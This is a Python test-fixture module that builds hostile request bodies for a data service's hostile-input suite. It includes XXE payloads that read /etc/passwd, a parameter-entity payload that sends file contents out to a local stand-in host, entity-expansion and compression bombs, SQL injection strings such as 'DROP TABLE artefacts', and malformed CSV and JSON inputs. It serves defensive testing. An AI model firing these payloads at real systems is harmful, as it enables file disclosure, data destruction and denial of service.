"""Hostile request bodies for the live hostile-input suite (built once, cheaply)."""

from __future__ import annotations

import gzip
import io
import zipfile
import zlib
from pathlib import Path

PROJECT_ROOT = Path(__file__).resolve().parents[2]
DEMO = PROJECT_ROOT / "fixtures" / "data" / "IMDX-DF_MIG_STOCK_IMS-1.0.0.xml"
#: What no answer may ever contain: the content of a file an external entity points at.
MARKER = "HOSTILE-MARKER-7f3c9e1d"
PASSWD_MARKER = "root:x:0:0"

_HEADER = DEMO.read_bytes().split(b"<Series ", 1)[0].decode()
_DECLARATION, _REST = _HEADER.split("?>", 1)
_END = "</mes:DataSet></mes:StructureSpecificData>"
_STRUCTURE_START = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    '<mes:Structure xmlns:mes="http://www.sdmx.org/resources/sdmxml/schemas/v2_1/message" '
    'xmlns:str="http://www.sdmx.org/resources/sdmxml/schemas/v2_1/structure" '
    'xmlns:com="http://www.sdmx.org/resources/sdmxml/schemas/v2_1/common" '
    'xmlns:xi="http://www.w3.org/2001/XInclude">'
    "<mes:Header><mes:ID>HOSTILE</mes:ID><mes:Test>false</mes:Test>"
    '<mes:Prepared>2026-01-01T00:00:00</mes:Prepared><mes:Sender id="IMDX"/></mes:Header>'
    "<mes:Structures><str:Codelists>"
)
_STRUCTURE_END = "</str:Codelists></mes:Structures></mes:Structure>"


def series(value: str = "1", area: str = "1") -> str:
    return (
        f'<Series FREQ="A" REF_AREA="{area}" MEASURE="STOCK" COUNTRY_BIRTH="FB" '
        'CITIZENSHIP="_T" SEX="_T" AGE="_T" EDUCATION_LEV="_T" UNIT_MEASURE="PS" '
        'UNIT_MULT="0" REF_PERIOD_DETAIL="MID_YEAR" REVISION="IMS2019">'
        f'<Obs TIME_PERIOD="1990" OBS_VALUE="{value}" OBS_STATUS="E"/></Series>'
    )


def data_message(body: str, doctype: str = "") -> bytes:
    """A structure-specific data message of DF_MIG_STOCK_IMS around `body`."""
    return f"{_DECLARATION}?>\n{doctype}{_REST}{body}{_END}".encode()


def codelist_message(body: str, doctype: str = "") -> bytes:
    """A structure message with one codelist around `body` (codes)."""
    start = _STRUCTURE_START.replace("?>\n", f"?>\n{doctype}", 1)
    return (
        f'{start}<str:Codelist id="CL_HOSTILE" agencyID="IMDX" version="1.0.0">'
        f"<com:Name>hostile</com:Name>{body}</str:Codelist>{_STRUCTURE_END}"
    ).encode()


def code(value: str) -> str:
    return f'<str:Code id="A"><com:Name>{value}</com:Name></str:Code>'


def xml_payloads(marker_file: Path) -> dict[str, tuple[bytes, bytes]]:
    """name -> (as a data message, as a structure message)."""
    marker_uri = marker_file.as_uri()
    out: dict[str, tuple[bytes, bytes]] = {}

    def both(name: str, doctype: str, value: str) -> None:
        out[name] = (data_message(series(value), doctype), codelist_message(code(value), doctype))

    both("xxe-passwd", '<!DOCTYPE m [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;")
    both("xxe-marker", f'<!DOCTYPE m [<!ENTITY x SYSTEM "{marker_uri}">]>', "&x;")
    laughs = "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10))
    both("billion-laughs", f'<!DOCTYPE m [<!ENTITY a0 "lol">{laughs}]>', "&a9;")
    both("quadratic-blowup", f'<!DOCTYPE m [<!ENTITY a "{"B" * 50_000}">]>', "&a;" * 20_000)
    both("external-dtd", '<!DOCTYPE m SYSTEM "http://127.0.0.1:9/evil.dtd">', "1")
    both(
        "parameter-entities",
        f'<!DOCTYPE m [<!ENTITY % p SYSTEM "{marker_uri}"> %p;]>',
        "1",
    )
    both(
        "parameter-entity-exfiltration",
        '<!DOCTYPE m [<!ENTITY % f SYSTEM "file:///etc/passwd">'
        "<!ENTITY % d \"<!ENTITY &#x25; s SYSTEM 'http://127.0.0.1:9/?%f;'>\"> %d; %s;]>",
        "1",
    )
    include = f'<xi:include href="{marker_uri}" parse="text"/>'
    out["xinclude"] = (
        data_message(
            series("1").replace(
                "<Obs ",
                f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
                f'href="{marker_uri}" parse="text"/><Obs ',
                1,
            )
        ),
        codelist_message(f'<str:Code id="A"><com:Name>{include}</com:Name></str:Code>'),
    )
    deep = "<Series>" * 100_000 + "</Series>" * 100_000
    out["deep-nesting"] = (data_message(deep), codelist_message("<com:Name>" * 100_000))
    valid_data, valid_structure = data_message(series("1")), codelist_message(code("x"))
    out["invalid-utf8"] = (
        valid_data.replace(b'REVISION="IMS2019"', b'REVISION="\xff\xfe\xc3\x28"'),
        valid_structure.replace(b"<com:Name>x", b"<com:Name>\xc3\x28\xff"),
    )
    out["utf16-without-bom"] = (
        valid_data.decode().encode("utf-16-le"),
        valid_structure.decode().encode("utf-16-le"),
    )
    out["nul-bytes"] = (
        valid_data.replace(b'OBS_VALUE="1"', b'OBS_VALUE="1\x00\x00"'),
        valid_structure.replace(b"<com:Name>x", b"<com:Name>x\x00"),
    )
    out["truncated-xml"] = (valid_data[: len(valid_data) - 60], valid_structure[:-40])
    huge_id = "Z" * 1_000_000
    out["huge-ids"] = (
        data_message(series("1", area=huge_id)),
        codelist_message(f'<str:Code id="{huge_id}"><com:Name>x</com:Name></str:Code>'),
    )
    sql = "1'; DROP TABLE artefacts; --"
    out["sql-in-values"] = (
        data_message(series("1", area=sql)),
        codelist_message(f'<str:Code id="{sql}"><com:Name>x</com:Name></str:Code>'),
    )
    many = " ".join(f'a{i}="x"' for i in range(200_000))
    out["many-attributes"] = (
        data_message(series("1").replace("<Series ", f"<Series {many} ", 1)),
        codelist_message(f'<str:Code id="A" {many}><com:Name>x</com:Name></str:Code>'),
    )
    return out


def gzip_bomb(size: int, head: bytes = b"") -> bytes:
    """A gzip stream of `head` then `size` bytes of blanks, built member by member."""
    unit = 1 << 20
    member = gzip.compress(b" " * unit, mtime=0)
    return gzip.compress(head, mtime=0) + member * (size // unit)


def deflate_bomb(size: int, head: bytes = b"") -> bytes:
    compressor = zlib.compressobj(9)
    parts = [compressor.compress(head)]
    block = b" " * (1 << 20)
    for _ in range(size >> 20):
        parts.append(compressor.compress(block))
    parts.append(compressor.flush())
    return b"".join(parts)


def zip_bomb(size: int, head: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("bomb.xml", "w", force_zip64=True) as member:
            member.write(head)
            block = b" " * (1 << 20)
            for _ in range(size >> 20):
                member.write(block)
    return buffer.getvalue()


def csv_payloads() -> dict[str, bytes]:
    head = "STRUCTURE,STRUCTURE_ID,ACTION,FREQ,REF_AREA,MEASURE,TIME_PERIOD,OBS_VALUE"
    row = "dataflow,IMDX:DF_MIG_STOCK_IMS(1.0.0),I,A,1,STOCK,1990"
    columns = ",".join(f"C{i}" for i in range(1_000_000))
    sql_row = row.replace(",1,", ",1' UNION SELECT * FROM artefacts--,")
    return {
        "csv-million-columns": f"{head},{columns}\n{row},1\n".encode(),
        "csv-1e400": f"{head}\n{row},1e400\n".encode(),
        "csv-nul": f"{head}\n{row},1\x00\n".encode(),
        "csv-huge-field": f'{head}\n{row},"{"9" * 3_000_000}"\n'.encode(),
        "csv-unbalanced-quote": f'{head}\n{row},"1\n'.encode() + b"x" * 100_000,
        "csv-sql-key": f"{head}\n{sql_row},1\n".encode(),
    }


def json_payloads() -> dict[str, bytes]:
    return {
        "json-deep-nesting": b'{"data":' + b"[" * 200_000 + b"]" * 200_000 + b"}",
        "json-deep-objects": b'{"a":' * 100_000 + b"1" + b"}" * 100_000,
        "json-1e400": b'{"meta":{},"data":{"dataSets":[{"observations":{"0":[1e400]}}]}}',
        "json-nan": b'{"meta":{},"data":{"dataSets":[{"observations":{"0":[NaN]}}]}}',
        "json-huge-string": b'{"meta":{"id":"' + b"x" * 3_000_000 + b'"}}',
        "json-truncated": b'{"meta":{"schema":"https://json.sdmx.org/2.0.0/sdmx-json-data',
        "json-many-keys": b"{" + b",".join(b'"k%d":1' % i for i in range(300_000)) + b"}",
    }
